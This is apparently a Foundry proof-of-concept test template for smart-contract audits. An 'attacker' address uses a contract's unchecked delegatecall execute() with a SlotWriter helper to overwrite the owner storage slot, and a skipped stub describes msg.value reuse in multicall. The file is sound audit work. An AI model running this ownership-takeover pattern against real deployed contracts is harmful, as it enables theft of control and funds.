// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Test} from "forge-std/Test.sol";

// Replace with the contract under review.
interface ITarget {
    function owner() external view returns (address);
    function execute(address target, bytes calldata data) external;
}

/// Code that, when delegatecalled, writes `value` into slot `slot` of the caller.
contract SlotWriter {
    function write(bytes32 slot, bytes32 value) external {
        assembly { sstore(slot, value) }
    }
}

contract DelegatecallPoC is Test {
    ITarget target;
    SlotWriter writer;
    address attacker = makeAddr("attacker");

    function setUp() public {
        // target = ITarget(address(new VulnerableContract()));
        writer = new SlotWriter();
    }

    function test_arbitraryDelegatecallOverwritesOwner() public {
        vm.skip(address(target) == address(0)); // fill in setUp first
        bytes32 ownerSlot = bytes32(uint256(0)); // from `forge inspect ... storageLayout`
        vm.prank(attacker);
        target.execute(address(writer), abi.encodeCall(SlotWriter.write, (ownerSlot, bytes32(uint256(uint160(attacker))))));
        assertEq(target.owner(), attacker, "owner slot overwritten through delegatecall");
    }

    function test_multicallMsgValueReuse() public {
        vm.skip(true); // adapt: call multicall with N deposit() calls and 1 ether, assert credited balance == N ether
    }
}
